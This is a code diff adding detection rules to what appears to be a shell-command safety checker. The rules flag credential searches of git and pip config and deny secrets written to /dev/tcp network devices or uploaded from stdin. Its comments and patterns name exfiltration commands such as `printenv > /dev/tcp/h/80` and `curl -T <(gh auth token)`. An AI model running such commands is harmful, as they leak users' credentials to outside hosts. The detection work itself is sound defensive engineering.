@@ -9,7 +9,8 @@ import { historySearch, secretSearch } from "../flows/secret-search.js";
 import { networkSink, type NetworkSink } from "../flows/network-sinks.js";
 import { carriesSecret, secretSources } from "../flows/secret-names.js";
 import { isServiceHost, serviceOf } from "../flows/services.js";
-import type { DataSource, Field, Invocation, Provenance } from "../model.js";
+import { provenance, type DataSource, type Field, type Invocation, type Provenance } from "../model.js";
+import { withSecrets } from "../flows/secret-output.js";
 import { classifyPath, resolve } from "../targets/classify-path.js";
 import { secretsHolder } from "../../security-audit/secret-ancestors.js";
 import { pathContext, shown, via } from "./helpers.js";
@@ -68,10 +69,76 @@ export const secretFlowRules: RuleSet = {
     if (mounts.length > 0) return containerMounts(invocation, mounts, context);
     return unknownConsumer(invocation, context);
   },
+  pipeline(stages) {
+    return configSearch(stages);
+  },
+  redirect(redirect, invocation) {
+    return invocation && NETWORK_DEVICE.test(redirect.target.value ?? "") && (redirect.op.startsWith(">") || redirect.op.startsWith("&>")) ? deviceHits(invocation, redirect.target.value as string) : [];
+  },
   transcript(output) {
     return transcriptHits(output);
   },
 };
+
+/** Line filters whose pattern picks lines out of a listing. */
+const LINE_FILTERS = new Set(["grep", "egrep", "fgrep", "rg", "ag", "ack"]);
+/** What a search of a config listing looks for when it hunts for credentials (tokens in `url.<base>.insteadOf`, `http.extraHeader`, index URLs with a password). */
+const CONFIG_SECRET = /token|passw|secret|extraheader|insteadof|credential|oauth|bearer|\bauth(?!or)|apikey|api_key|_auth|:\/\/[^\s/]*@|@/i;
+
+/** A listing of git's or pip's whole config (`git config --list`, `git config -l --show-origin`, `pip config list`, `cat .git/config`). */
+function listsConfig(invocation: Invocation): string | undefined {
+  const values = invocation.argv.slice(1).map((field) => field.value ?? "");
+  if (values.length > 32) return undefined;
+  if (invocation.name === "git") {
+    const config = values.indexOf("config");
+    if (config < 0) return undefined;
+    const rest = values.slice(config + 1);
+    return rest.some((value) => value === "-l" || value === "--list" || value === "--get-regexp" || /^-[a-zA-Z]*l[a-zA-Z]*$/.test(value)) || rest[0] === "list" ? "git config --list" : undefined;
+  }
+  if (/^pip[\d.]*$/.test(invocation.name)) return values[0] === "config" && values[1] === "list" ? `${invocation.name} config list` : undefined;
+  if (invocation.name === "cat" || invocation.name === "less" || invocation.name === "more") {
+    const file = values.find((value) => /(?:^|\/)\.git\/config$|(?:^|\/)\.gitconfig$|(?:^|\/)git\/config$|(?:^|\/)pip\.conf$|(?:^|\/)pip\.ini$/.test(value));
+    return file === undefined ? undefined : `${invocation.name} ${file}`;
+  }
+  return undefined;
+}
+
+/**
+ * A config listing filtered for credentials (`git config --list | grep -i token`): each token kept
+ * in git's config (a remote URL's password, an `http.extraHeader`) or in pip's index URL is printed.
+ * The listing alone, or filtered for anything else, is everyday work.
+ */
+function configSearch(stages: readonly (readonly Invocation[])[]): Hit[] {
+  for (let index = 0; index < stages.length - 1; index++) {
+    const lister = (stages[index] as readonly Invocation[]).find((invocation) => listsConfig(invocation) !== undefined);
+    if (!lister) continue;
+    for (const stage of stages.slice(index + 1)) {
+      for (const filter of stage) {
+        if (!LINE_FILTERS.has(filter.name)) continue;
+        const args = filter.argv.slice(1).map((field) => field.value ?? "");
+        if (args.some((arg) => /^-[a-zA-Z]*[vcqlL]|^--(?:invert-match|count|quiet|silent|files-with)/.test(arg))) continue;
+        const pattern = args.find((arg) => !arg.startsWith("-") && arg.length < 512 && CONFIG_SECRET.test(arg));
+        if (pattern !== undefined) return [{ rule: "secrets.print-credential", decision: "ask", reason: `${shown(lister)} filtered by ${filter.name} for ${pattern} prints the credentials kept in the config (tokens in remote URLs and headers)${via(lister)}` }];
+      }
+    }
+  }
+  return [];
+}
+
+/** bash's network pseudo-devices: writing there sends the data to the host and port. */
+const NETWORK_DEVICE = /^\/dev\/(?:tcp|udp)\/[^/]+\/[^/]+$/;
+
+/** A credential, a secret variable or the environment printed, or read from the input, and written to a network device (`printenv > /dev/tcp/h/80`). */
+function deviceHits(invocation: Invocation, target: string): Hit[] {
+  const printed = withSecrets(invocation, { provenance: provenance({}), description: "" }).provenance;
+  const origin = carriesSecret(printed) ? printed : invocation.stdin && carriesSecret(invocation.stdin.provenance) ? invocation.stdin.provenance : undefined;
+  if (!origin) return [];
+  const what = origin.environment?.length ? `the environment (${origin.environment.join(", ")})` : secretSources(origin).map((source) => (source.startsWith("$") ? `the secret ${source}` : `a credential from \`${source}\``)).slice(0, 2).join(", ");
+  return [{ rule: "secrets.send-credential", decision: "deny", reason: `${shown(invocation)} writes ${what} to ${target}, a network connection${via(invocation)}` }];
+}
+
+/** Files that are the command's standard input. */
+const STDIN_FILE = /^(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/;
 
 function cwdOf(invocation: Invocation, context: RuleContext): string | undefined {
   return invocation.cwd.known ? invocation.cwd.path : context.initialCwd;
@@ -91,6 +158,12 @@ function sinkHits(invocation: Invocation, sink: NetworkSink, context: RuleContex
     if (hit) hits.push(hit);
   }
   for (const file of sink.files) {
+    // The input named as a file (`scp /dev/stdin host:…`, `curl -T /dev/fd/0 …`).
+    if (!sink.sendsStdin && stdin && STDIN_FILE.test(file.value ?? "") && carriesSecret(stdin.provenance)) {
+      const hit = flowHit(invocation, sink, stdin.provenance, false, file.text);
+      if (hit) hits.push(hit);
+      continue;
+    }
     // A process substitution's output sent as a file (`gh gist create <(env)`, `curl -T <(gh auth token) …`).
     const substituted = file.process?.direction === "in" ? file.process.provenance : undefined;
     if (substituted && carriesSecret(substituted)) {
